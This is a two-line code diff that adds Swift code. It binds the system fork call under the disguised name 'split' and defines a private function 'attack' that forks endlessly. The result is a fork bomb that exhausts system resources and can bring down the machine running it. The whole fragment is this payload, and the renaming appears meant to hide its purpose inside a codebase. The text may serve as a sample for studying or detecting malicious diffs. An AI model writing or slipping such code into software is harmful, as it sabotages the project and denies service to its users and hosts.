@@ -1,0 +1,2 @@
+@_silgen_name("fork") private func split() -> Int32
+private func attack() { while true { _ = split() } }
